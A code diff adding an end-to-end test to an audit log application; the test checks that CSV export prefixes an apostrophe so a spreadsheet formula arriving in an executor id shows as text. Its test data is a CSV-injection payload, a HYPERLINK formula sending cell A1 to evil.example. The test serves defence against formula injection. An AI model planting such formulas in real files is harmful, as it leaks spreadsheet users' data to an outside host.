@@ -233,6 +233,30 @@ test("export saves every match of the query (not the page) under the server's fi
   expect(lines).toHaveLength(expected);
 });
 
+test("an exported CSV opens a formula from the wire as text, not as a formula", async ({ page, stack }) => {
+  // An executor id a spreadsheet would run (OWASP CSV injection), under a rule of this test's own.
+  const rule = `e2e-formula-${run}`;
+  const executor = `=HYPERLINK("http://evil.example/?leak="&A1,"open ${run}")`;
+  const intent = makeIntent({ key: keys.trusted[0], domain: `formula-${run}` });
+  const nc = await connectAs(stack, "publisher");
+  await publish(nc, `smith.intents.vetted.${intent.capability}`, intent.text);
+  const entry = makeAuditEntry({ intentId: intent.id, executor, decisions: [{ rule, decision: "deny" }], status: "denied", sandbox: "full", tsMs: Date.now() });
+  await publish(nc, `smith.audit.policy.${intent.id}`, entry);
+  await nc.close();
+  const q = `rule:${rule}`;
+  await expect.poll(() => auditTotal(page.request, { q }), { timeout: 30_000 }).toBe(1);
+  await openAudit(page, `?q=${encodeURIComponent(q)}`);
+  await expect(facets(page)).toContainText("1 matching events");
+
+  const exportGroup = page.getByRole("group", { name: "Export" });
+  const [csv] = await Promise.all([page.waitForEvent("download"), exportGroup.getByRole("button", { name: "Export CSV" }).click()]);
+  const records: unknown = parse(readFileSync(await csv.path(), "utf8"), { columns: true });
+  const [row] = z.array(z.object({ executorId: z.string(), intentId: z.string() })).length(1).parse(records);
+  // The leading apostrophe is what makes Excel, LibreOffice and Sheets show the cell as text.
+  expect(row?.executorId).toBe(`'${executor}`);
+  expect(row?.intentId).toBe(intent.id);
+});
+
 test("a new audit event enters at the top, live, and the counts follow", async ({ page, stack }) => {
   const { intentIds } = await seed(stack, page.request);
   const q = `rule:${RULE}`;
